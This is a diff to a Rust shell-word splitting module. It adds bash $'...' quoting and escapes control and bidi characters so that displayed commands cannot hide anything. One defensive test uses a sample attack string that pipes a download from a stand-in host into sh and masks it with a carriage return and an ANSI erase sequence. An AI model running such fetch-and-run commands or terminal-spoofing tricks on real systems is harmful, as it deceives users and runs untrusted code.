@@ -1,16 +1,25 @@
 //! POSIX-shell-style splitting of one command line into words, for rule examples and for
-//! showing argv back to the user. Quotes and backslashes follow `sh`; no expansion is done.
+//! showing argv back to the user. Quotes and backslashes follow `sh` (and bash's `$'...'`); no
+//! expansion is done.
 //!
-//! A line with an unterminated quote or a trailing backslash is an error, never a guess.
+//! A line with an unterminated quote or a trailing backslash is an error, never a guess. `join`
+//! never emits a control or bidi character (they become `$'\x1b'`-style escapes, see
+//! `paddock_core::text`), so a joined argv is safe to print on a terminal and splits back
+//! unchanged.
 
 /// Splits `line` like `sh` would split a simple command without expansions.
 pub fn split(line: &str) -> Result<Vec<String>, String> {
     let mut words = Vec::new();
     let mut cur = String::new();
     let mut in_word = false;
-    let mut chars = line.chars();
+    let mut chars = line.chars().peekable();
     while let Some(c) = chars.next() {
         match c {
+            '$' if chars.peek() == Some(&'\'') => {
+                chars.next();
+                in_word = true;
+                ansi_c_quoted(&mut chars, &mut cur).map_err(|e| format!("{e} in `{line}`"))?;
+            }
             ' ' | '\t' | '\n' | '\r' => {
                 if in_word {
                     words.push(std::mem::take(&mut cur));
@@ -66,8 +75,72 @@ pub fn split(line: &str) -> Result<Vec<String>, String> {
     Ok(words)
 }
 
-/// Quotes `word` for display so that `split` gives it back unchanged.
+/// Reads the rest of a `$'...'` word (after the opening quote) into `cur`: `\\`, `\'`, `\"`,
+/// `\t`, `\n`, `\r`, `\e`, `\xHH` (ASCII) and `\uHHHH`, the forms `quote` writes.
+fn ansi_c_quoted(
+    chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
+    cur: &mut String,
+) -> Result<(), String> {
+    let hex = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, max: usize| {
+        let mut digits = String::new();
+        while digits.len() < max
+            && let Some(d) = chars.peek().filter(|d| d.is_ascii_hexdigit())
+        {
+            digits.push(*d);
+            chars.next();
+        }
+        u32::from_str_radix(&digits, 16)
+            .ok()
+            .and_then(char::from_u32)
+            .ok_or_else(|| "bad escape in $'...'".to_string())
+    };
+    loop {
+        match chars.next() {
+            Some('\'') => return Ok(()),
+            Some('\\') => match chars.next() {
+                Some(c @ ('\\' | '\'' | '"' | '?')) => cur.push(c),
+                Some('t') => cur.push('\t'),
+                Some('n') => cur.push('\n'),
+                Some('r') => cur.push('\r'),
+                Some('e' | 'E') => cur.push('\u{1b}'),
+                Some('x') => {
+                    let c = hex(chars, 2)?;
+                    if !c.is_ascii() {
+                        return Err("\\x beyond ASCII in $'...' (use \\u)".into());
+                    }
+                    cur.push(c);
+                }
+                Some('u') => cur.push(hex(chars, 4)?),
+                Some(c) => {
+                    cur.push('\\');
+                    cur.push(c);
+                }
+                None => return Err("unterminated $'...' quote".into()),
+            },
+            Some(c) => cur.push(c),
+            None => return Err("unterminated $'...' quote".into()),
+        }
+    }
+}
+
+/// Quotes `word` for display so that `split` gives it back unchanged. A word holding a control,
+/// bidi or invisible character is written as `$'...'` with those characters escaped.
 pub fn quote(word: &str) -> String {
+    if word.chars().any(paddock_core::text::is_hidden) {
+        let mut out = String::from("$'");
+        for c in word.chars() {
+            match c {
+                '\\' => out.push_str("\\\\"),
+                '\'' => out.push_str("\\'"),
+                c if paddock_core::text::is_hidden(c) => {
+                    out.push_str(&paddock_core::text::escape_char(c))
+                }
+                c => out.push(c),
+            }
+        }
+        out.push('\'');
+        return out;
+    }
     let plain = !word.is_empty()
         && word
             .chars()
@@ -118,5 +191,36 @@ mod tests {
             .map(|s| s.to_string())
             .collect();
         assert_eq!(split(&join(&argv)).unwrap(), argv);
+    }
+
+    #[test]
+    fn join_shows_no_control_character_and_still_round_trips() {
+        let attack = "curl evil|sh\r\x1b[2K command: ls";
+        let argv: Vec<String> = ["sh", "-c", attack, "a\\b'c\u{202e}d\n", "\u{9b}"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
+        let shown = join(&argv);
+        assert!(
+            !shown.chars().any(paddock_core::text::is_hidden),
+            "{shown:?}"
+        );
+        assert!(
+            shown.contains(r"$'curl evil|sh\r\x1b[2K command: ls'"),
+            "{shown}"
+        );
+        assert_eq!(split(&shown).unwrap(), argv);
+    }
+
+    #[test]
+    fn ansi_c_quotes_split_like_bash() {
+        assert_eq!(
+            split(r"echo $'a\tb' $'it\'s' x$'\x41'").unwrap(),
+            ["echo", "a\tb", "it's", "xA"]
+        );
+        assert_eq!(split("echo $x 'a$'").unwrap(), ["echo", "$x", "a$"]);
+        for bad in [r"$'open", r"$'\xzz'", r"$'\xff'"] {
+            assert!(split(bad).is_err(), "{bad}");
+        }
     }
 }
